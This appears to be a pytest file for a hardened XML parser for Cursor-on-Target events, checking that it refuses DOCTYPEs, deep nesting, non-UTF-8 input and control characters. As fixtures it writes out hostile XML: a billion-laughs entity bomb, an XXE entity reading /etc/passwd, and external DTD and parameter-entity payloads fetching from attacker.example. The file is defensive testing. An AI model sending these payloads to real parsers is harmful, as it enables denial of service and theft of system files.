"""Hostile XML is refused before it can do harm; element spans match the input bytes."""

from __future__ import annotations

import pytest

from kyodo.cot.errors import CotError
from kyodo.cot.safexml import MAX_DEPTH, parse_xml
from kyodo.cot.xml import parse_event

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE event [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<event uid="x" type="a-f-G" how="m-g" time="2024-01-01T00:00:00Z" start="2024-01-01T00:00:00Z"
 stale="2024-01-01T00:00:00Z"><point lat="0" lon="0"/><detail><remarks>&lol9;</remarks>
</detail></event>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE event [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<event uid="x" type="a-f-G" how="m-g" time="2024-01-01T00:00:00Z" start="2024-01-01T00:00:00Z"
 stale="2024-01-01T00:00:00Z"><point lat="0" lon="0"/><detail><remarks>&secret;</remarks>
</detail></event>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE event SYSTEM "http://attacker.example/cot.dtd">
<event uid="x"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE event [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<event uid="x"/>"""

PLAIN_DOCTYPE = b"<!DOCTYPE event><event/>"


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DOCTYPE],
    ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity", "any-doctype"],
)
def test_any_doctype_is_refused_before_its_content_is_read(document: bytes) -> None:
    with pytest.raises(CotError, match="DOCTYPE"):
        parse_xml(document)
    with pytest.raises(CotError, match="DOCTYPE"):
        parse_event(document)


def test_an_undeclared_entity_is_malformed() -> None:
    with pytest.raises(CotError, match="malformed: undefined entity"):
        parse_xml(b"<event>&passwd;</event>")


def test_the_predefined_entities_and_character_references_still_read() -> None:
    parsed = parse_xml(b"<event a='&lt;&#x41;&#66;'>&amp;&gt;&quot;&apos;</event>")
    assert parsed.root.get("a") == "<AB"
    assert parsed.root.text == "&>\"'"


@pytest.mark.parametrize(
    "document",
    [
        '<?xml version="1.0" encoding="UTF-16"?><event/>'.encode("utf-16"),
        "<event/>".encode("utf-16-le"),  # no byte order mark: expat would guess UTF-16
        '<?xml version="1.0" encoding="ISO-8859-1"?><event a="\xe9"/>'.encode("latin-1"),
        b"<event a='\xff\xfe'/>",  # not UTF-8
    ],
    ids=["utf-16-bom", "utf-16-no-bom", "latin-1", "invalid-utf-8"],
)
def test_only_utf8_is_accepted(document: bytes) -> None:
    with pytest.raises(CotError):
        parse_xml(document)


def test_utf8_and_ascii_declarations_are_accepted() -> None:
    for name in ("UTF-8", "utf8", "US-ASCII"):
        assert parse_xml(f'<?xml version="1.0" encoding="{name}"?><e/>'.encode()).root.tag == "e"


def test_deep_nesting_is_refused() -> None:
    deep = b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1)
    with pytest.raises(CotError, match="nested deeper"):
        parse_xml(deep)
    fine = b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH
    assert parse_xml(fine).root.tag == "a"


def test_control_characters_are_malformed() -> None:
    with pytest.raises(CotError, match="NUL"):
        parse_xml(b"<e>\x00</e>")
    with pytest.raises(CotError, match="malformed"):
        parse_xml(b"<e>\x01</e>")
    with pytest.raises(CotError, match="malformed"):
        parse_xml(b"<e>&#1;</e>")


def test_spans_are_the_elements_bytes() -> None:
    data = (
        '<?xml version="1.0"?>\n<r x="1"><a k=\'v>w\' />  <b>é<c/><![CDATA[</b>]]></b>'
        "<!-- </r> --><d/></r>"
    ).encode()
    parsed = parse_xml(data, mark_depth=1)
    a, b, d = list(parsed.root)
    assert data[parsed.span(a).start : parsed.span(a).end] == b"<a k='v>w' />"
    span = parsed.span(b)
    assert data[span.start : span.end] == "<b>é<c/><![CDATA[</b>]]></b>".encode()
    assert parsed.text(span.inner_start, span.inner_end) == "é<c/><![CDATA[</b>]]>"
    assert data[parsed.span(d).start : parsed.span(d).end] == b"<d/>"
    root = parsed.span(parsed.root)
    assert data[root.start : root.end] == data[data.index(b"<r") :]
    assert b.find("c") not in parsed.marks  # deeper than mark_depth


def test_an_empty_child_closing_its_parent_gets_the_right_span() -> None:
    data = b"<r><a><a/></a><b/></r>"
    parsed = parse_xml(data, mark_depth=2)
    outer = parsed.root[0]
    inner = outer[0]
    assert data[parsed.span(outer).start : parsed.span(outer).end] == b"<a><a/></a>"
    assert data[parsed.span(inner).start : parsed.span(inner).end] == b"<a/>"


def test_namespace_declarations_are_refused_above_the_allowed_depth() -> None:
    with pytest.raises(CotError, match="xmlns:s is declared"):
        parse_xml(b'<r><d xmlns:s="urn:x"><s:a/></d></r>', namespaces_from=2)
    with pytest.raises(CotError, match="xmlns is declared"):
        parse_xml(b'<r xmlns="urn:x"/>', namespaces_from=1)
    parsed = parse_xml(b'<r><d><s:a xmlns:s="urn:x" s:k="v"/></d></r>', namespaces_from=2)
    element = parsed.root[0][0]
    assert element.tag == "{urn:x}a"
    assert element.get("{urn:x}k") == "v"
